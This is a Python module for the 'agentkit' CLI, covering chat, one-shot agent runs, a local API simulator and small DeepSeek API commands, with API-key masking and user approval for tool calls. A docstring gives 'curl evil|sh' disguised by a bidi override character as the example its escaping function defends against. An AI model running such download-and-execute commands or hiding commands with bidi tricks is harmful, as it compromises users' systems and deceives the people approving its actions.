"""The ``agentkit`` command: chat, one-shot runs, the simulator and the API's small endpoints.

Parsing is argparse; output uses rich (the ``cli`` extra), imported only here and only when a command
runs, so ``import agentkit`` never pays for it. Without ``DEEPSEEK_API_KEY`` every command that needs the
API talks to the bundled simulator on loopback and says so first. Failures print one line with the
remedy (the traceback only with ``--debug``) and exit non-zero; the API key is never printed.
"""

from __future__ import annotations

import argparse
import contextlib
import functools
import importlib
import json
import os
import pkgutil
import sys
import traceback
from collections.abc import Awaitable, Callable, Iterator, Sequence
from dataclasses import asdict, dataclass
from typing import TYPE_CHECKING, Any

from ._cli_streams import reader_gone

if TYPE_CHECKING:
    from rich.console import Console

    from ._agent import Agent
    from ._toolcalls import Approve

DEFAULT_MODEL = "deepseek-chat"
TOOL_PACKAGE = "agentkit.tools"


class CLIError(Exception):
    """A failure the user can fix; printed as one line that says how."""


@dataclass(frozen=True)
class API:
    """Where API calls go: the real API (key from the environment) or the in-process simulator."""

    api_key: str
    base_url: str | None
    simulated: bool


# --------------------------------------------------------------------------- helpers


def _console(*, stderr: bool = False) -> Console:
    try:
        from rich.console import Console
    except ImportError as exc:  # pragma: no cover - rich comes with the cli extra
        raise CLIError("the agentkit command needs rich: pip install 'agentkit[cli]'") from exc
    return Console(stderr=stderr, highlight=False, soft_wrap=True)


def _redact(text: str, *, payload: bool = False) -> str:
    """``text`` about to be printed, with DEEPSEEK_API_KEY masked (``_secret.mask_printed``)."""
    from ._secret import mask_printed

    return mask_printed(text, os.environ.get("DEEPSEEK_API_KEY", ""), payload=payload)


def visible(text: str) -> str:
    """``text`` with every character that is not printable escaped (``\\u202e``), for what the model
    wrote and the user must judge: bidi overrides (U+202E, U+2066), C1 (U+009B, U+0085), zero-width and
    other format characters could otherwise make ``curl evil|sh #<RLO> ls`` look harmless."""
    if text.isprintable():
        return text
    return "".join(c if c.isprintable() else _escape(c) for c in text)


def _escape(char: str) -> str:
    code = ord(char)
    return f"\\u{code:04x}" if code <= 0xFFFF else f"\\U{code:08x}"


def _one_line(exc: BaseException) -> str:
    """What went wrong and what to do, on one line."""
    while len(getattr(exc, "exceptions", ())) == 1:  # a task group's single failure
        exc = exc.exceptions[0]  # type: ignore[attr-defined]
    from ._errors import AgentkitError

    if isinstance(exc, CLIError | AgentkitError):
        text = str(exc)
    elif isinstance(exc, OSError):
        text = f"{exc} (check the path, permissions or network)"
    else:
        text = f"unexpected {type(exc).__name__}: {exc} (run again with --debug to see where)"
    return _redact(" ".join(text.split()))


@contextlib.contextmanager
def _api(args: argparse.Namespace, notice: Callable[[str], None]) -> Iterator[API]:
    """The real API when DEEPSEEK_API_KEY is set (and --simulator is not), else the bundled simulator."""
    key = os.environ.get("DEEPSEEK_API_KEY", "")
    if key and not args.simulator:
        yield API(key, os.environ.get("DEEPSEEK_BASE_URL") or None, simulated=False)
        return
    try:
        from .sim import SIM_API_KEY, Simulator, serve
    except ImportError as exc:
        raise CLIError(
            "no DEEPSEEK_API_KEY is set and the simulator is not installed: "
            "export DEEPSEEK_API_KEY=sk-..., or pip install 'agentkit[sim]'"
        ) from exc
    why = "--simulator given" if key else "no DEEPSEEK_API_KEY set"
    with serve(Simulator(seed=args.seed), host="127.0.0.1", port=0) as base_url:
        notice(f"{why}: using the bundled simulator at {base_url} (answers are simulated; "
               "export DEEPSEEK_API_KEY to use DeepSeek)")
        yield API(SIM_API_KEY, base_url, simulated=True)


def _notice_to(console: Console) -> Callable[[str], None]:
    return lambda text: console.print(text, style="yellow", markup=False)


def _print_json(data: Any) -> None:
    print(_redact(json.dumps(data, ensure_ascii=False, indent=2), payload=True))


# --------------------------------------------------------------------------- small API commands


def _client(api: API) -> Any:
    from ._client import DeepSeekClient

    return DeepSeekClient(api_key=api.api_key, base_url=api.base_url)


def _ask_api(args: argparse.Namespace, out: Console, call: Callable[[Any], Awaitable[Any]]) -> Any:
    """One API call on the API ``_api`` picks; its notice goes to stderr when stdout carries JSON."""
    import anyio

    async def ask(api: API) -> Any:
        async with _client(api) as client:
            return await call(client)

    with _api(args, _notice_to(_console(stderr=True) if args.json else out)) as api:
        return anyio.run(ask, api)


def _cmd_models(args: argparse.Namespace) -> int:
    out = _console()
    models = _ask_api(args, out, lambda client: client.list_models())
    if args.json:
        _print_json(models.model_dump(mode="json"))
    else:
        for model in models.data:
            out.print(f"{model.id}  [dim]{model.owned_by}[/]")
    return 0


def _cmd_balance(args: argparse.Namespace) -> int:
    out = _console()
    balance = _ask_api(args, out, lambda client: client.get_balance())
    if args.json:
        _print_json(balance.model_dump(mode="json"))
        return 0
    state = "[green]available[/]" if balance.is_available else "[red]not enough for API calls: top up[/]"
    out.print(f"balance: {state}")
    for info in balance.balance_infos:
        out.print(f"  {info.total_balance} {info.currency}  (granted {info.granted_balance}, "
                  f"topped up {info.topped_up_balance})")
    return 0 if balance.is_available else 1


def _cmd_fim(args: argparse.Namespace) -> int:
    request: dict[str, Any] = {"model": args.model, "prompt": args.prefix, "max_tokens": args.max_tokens}
    if args.suffix is not None:
        request["suffix"] = args.suffix
    out = _console()
    completion = _ask_api(args, out, lambda client: client.fim(request))
    if args.json:
        _print_json(completion.model_dump(mode="json"))
    else:
        out.print(completion.choices[0].text if completion.choices else "", markup=False, end="")
        out.print()
    return 0


def _cmd_sim(args: argparse.Namespace) -> int:
    try:
        from . import sim
    except ImportError as exc:
        raise CLIError("the simulator needs its extra: pip install 'agentkit[sim]'") from exc
    argv = ["--host", args.host, "--port", str(args.port), "--era", args.era, *args.extra]
    if args.seed is not None:
        argv += ["--seed", str(args.seed)]
    if args.lenient:
        argv.append("--lenient")
    code = sim.main(argv)
    return int(code) if code is not None else 0


# --------------------------------------------------------------------------- agents


def available_tools() -> list[str]:
    """The ready tool modules under ``agentkit.tools`` (what ``--tools`` accepts)."""
    package = importlib.import_module(TOOL_PACKAGE)
    return sorted(m.name for m in pkgutil.iter_modules(package.__path__) if not m.name.startswith("_"))


def load_tools(spec: str | None) -> list[Any]:
    """``"clock,math"`` -> each module's ``toolset()``, with its safe defaults."""
    names = [name.strip() for name in (spec or "").split(",") if name.strip()]
    known = available_tools() if names else []
    toolsets = []
    for name in names:
        if name not in known:
            raise CLIError(f"unknown tool {name!r} in --tools: choose from {', '.join(known) or 'none'}")
        toolsets.append(importlib.import_module(f"{TOOL_PACKAGE}.{name}").toolset())
    return toolsets


def approver(args: argparse.Namespace, console: Console, pause: Callable[[], None] = lambda: None) -> Approve:
    """Who approves tools marked ``requires_approval`` (file writes, shell): ``--yes``, else the user at
    the terminal, else nobody (the model is told the call was refused)."""
    import anyio
    import anyio.to_thread

    lock = anyio.Lock()

    async def approve(name: str, arguments: dict[str, Any]) -> bool:
        shown = visible(json.dumps(arguments, ensure_ascii=False))
        if args.yes:
            return True
        if not (sys.stdin and sys.stdin.isatty()):  # None: stdin closed (<&-)
            console.print(f"refused {name}({shown}): it needs approval; run again with --yes to allow it",
                          style="yellow", markup=False)
            return False
        async with lock:  # one question at a time when tools run concurrently
            pause()
            # markup and emoji off: the model writes the arguments, and markup in them could hide text.
            ask = functools.partial(console.input, markup=False, emoji=False)
            answer: str = await anyio.to_thread.run_sync(ask, f"allow {name}({shown})? [y/N] ")
        return answer.strip().lower() in ("y", "yes")

    return approve


def make_agent(args: argparse.Namespace, api: API, tools: list[Any], approve: Approve) -> Agent[Any, Any]:
    from ._agent import Agent
    from ._toolset import Toolset

    return Agent(model=args.model, tools=Toolset(*tools), instructions=args.instructions,
                 api_key=api.api_key, base_url=api.base_url, approve=approve)


def usage_json(usage: Any) -> dict[str, Any]:
    return {**asdict(usage), "cache_hit_ratio": round(usage.cache_hit_ratio, 4)}


def usage_line(usage: Any) -> str:
    """``1,234 prompt tokens (87% cached) · 56 completion (12 reasoning) · 2 requests · $0.000123``."""
    return (f"{usage.prompt_tokens:,} prompt tokens ({usage.cache_hit_ratio:.0%} cached) · "
            f"{usage.completion_tokens:,} completion ({usage.reasoning_tokens:,} reasoning) · "
            f"{_count(usage.requests, 'request')} · {_count(usage.tool_calls, 'tool call')} · "
            f"${usage.cost:.6f}")


def _count(n: int, noun: str) -> str:
    return f"{n} {noun}{'s' * (n != 1)}"


def tool_calls_made(messages: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Every tool call in ``messages`` with its parsed arguments and the result the model was sent."""
    results = {m.get("tool_call_id"): m.get("content") for m in messages if m.get("role") == "tool"}
    calls = []
    for message in messages:
        for call in message.get("tool_calls") or ():
            function = call.get("function") or {}
            arguments: Any = function.get("arguments", "")
            with contextlib.suppress(ValueError):  # not valid JSON: shown as the model wrote it
                arguments = json.loads(arguments)
            calls.append({"id": call.get("id"), "name": function.get("name"), "arguments": arguments,
                          "result": results.get(call.get("id"))})
    return calls


def _cmd_run(args: argparse.Namespace) -> int:
    out, err = _console(), _console(stderr=True)
    tools = load_tools(args.tools)
    with _api(args, _notice_to(err if args.json else out)) as api:
        result = make_agent(args, api, tools, approver(args, err)).run_sync(args.prompt)
    output = result.output
    if args.json:
        _print_json({
            "output": output if isinstance(output, str | int | float | bool | None) else str(output),
            "model": args.model,
            "simulated": api.simulated,
            "usage": usage_json(result.usage),
            "tool_calls": tool_calls_made(result.messages),
        })
    else:
        out.print(str(output), markup=False)
        err.print(usage_line(result.usage), style="dim", markup=False)
    return 0


def _cmd_chat(args: argparse.Namespace) -> int:
    from ._cli_chat import run_chat

    return run_chat(args, _console())


# --------------------------------------------------------------------------- parser


def build_parser() -> argparse.ArgumentParser:
    common = argparse.ArgumentParser(add_help=False)
    # SUPPRESS: a subcommand's default must not undo `agentkit --debug COMMAND`.
    common.add_argument("--debug", action="store_true", default=argparse.SUPPRESS,
                        help="show the full traceback of an error")
    api = argparse.ArgumentParser(add_help=False)
    api.add_argument("--simulator", action="store_true",
                     help="use the bundled simulator even when DEEPSEEK_API_KEY is set")
    api.add_argument("--seed", type=int, default=0, help="simulator seed (default 0)")
    json_flag = argparse.ArgumentParser(add_help=False)
    json_flag.add_argument("--json", action="store_true", help="print the result as JSON")
    agent = argparse.ArgumentParser(add_help=False)
    agent.add_argument("--model", default=os.environ.get("AGENTKIT_MODEL", DEFAULT_MODEL),
                       help=f"model name (default $AGENTKIT_MODEL or {DEFAULT_MODEL})")
    agent.add_argument("--tools", metavar="NAMES",
                       help="ready tools to give the agent, comma-separated, e.g. clock,math,web,files")
    agent.add_argument("--instructions", help="system instructions for the agent")
    agent.add_argument("--yes", action="store_true",
                       help="allow tools that need approval (file writes, shell) without asking")

    parser = argparse.ArgumentParser(
        prog="agentkit",
        description="Tool-using agents on DeepSeek's API. Without DEEPSEEK_API_KEY, commands run against the "
                    "bundled simulator.",
    )
    parser.add_argument("--debug", action="store_true", help="show the full traceback of an error")
    from . import __version__

    parser.add_argument("--version", action="version", version=f"agentkit {__version__}")
    sub = parser.add_subparsers(dest="command", metavar="COMMAND")

    def add(name: str, handler: Callable[[argparse.Namespace], int], help: str,
            parents: Sequence[argparse.ArgumentParser] = ()) -> argparse.ArgumentParser:
        command = sub.add_parser(name, parents=[common, *parents], help=help, description=help)
        command.set_defaults(handler=handler)
        return command

    chat = add("chat", _cmd_chat, "talk with an agent: reasoning dimmed, tool calls shown, usage after each "
               "turn; /reset, /save FILE, /exit", [api, agent])
    chat.add_argument("--session", metavar="NAME", help="keep the conversation in a session (SQLite)")
    chat.add_argument("--session-file", metavar="PATH",
                      help="the sessions file (default $AGENTKIT_SESSIONS or ~/.agentkit/sessions.db)")
    run = add("run", _cmd_run, "run an agent once on PROMPT and print its answer", [api, agent, json_flag])
    run.add_argument("prompt", metavar="PROMPT")
    sim = add("sim", _cmd_sim, "serve the DeepSeek-compatible simulator on loopback")
    sim.add_argument("--host", default="127.0.0.1", help="address to listen on (default 127.0.0.1)")
    sim.add_argument("--port", type=int, default=8000, help="port (default 8000)")
    sim.add_argument("--seed", type=int, default=None, help="seed of the simulated model")
    sim.add_argument("--era", default="deepseek-v4",
                     help="API era to simulate: deepseek-v4 (default), deepseek-v3.2 or deepseek-r1")
    sim.add_argument("--lenient", action="store_true", help="do not enforce the reasoning_content rules")
    add("models", _cmd_models, "list the models the API serves", [api, json_flag])
    add("balance", _cmd_balance, "show the account balance", [api, json_flag])
    fim = add("fim", _cmd_fim, "fill in the middle: complete code between PREFIX and --suffix",
              [api, json_flag])
    fim.add_argument("prefix", metavar="PREFIX")
    fim.add_argument("--suffix", help="text after the gap")
    fim.add_argument("--model", default="deepseek-chat", help="model name (default deepseek-chat)")
    fim.add_argument("--max-tokens", type=int, default=256, help="longest completion (default 256)")
    from ._cli_batch import add_batch_command
    from ._cli_mcp import add_mcp_command

    add_batch_command(add, [api, agent])
    add_mcp_command(sub, common)
    return parser


def main(argv: Sequence[str] | None = None) -> int:
    """Entry point of the ``agentkit`` console script and ``python -m agentkit``; returns the exit code."""
    parser = build_parser()
    args, extra = parser.parse_known_args(argv)
    if args.command is None:
        parser.print_help()
        return 2
    if extra and args.command != "sim":
        parser.error(f"unrecognized arguments: {' '.join(extra)}")
    args.extra = extra
    try:
        code: int = args.handler(args)
    except KeyboardInterrupt:
        print("interrupted", file=sys.stderr)
        return 130
    except BrokenPipeError:
        return reader_gone()
    except Exception as exc:
        if args.debug:
            print(_redact(traceback.format_exc()), file=sys.stderr, end="")
        print(f"error: {_one_line(exc)}", file=sys.stderr)
        return 1
    return code
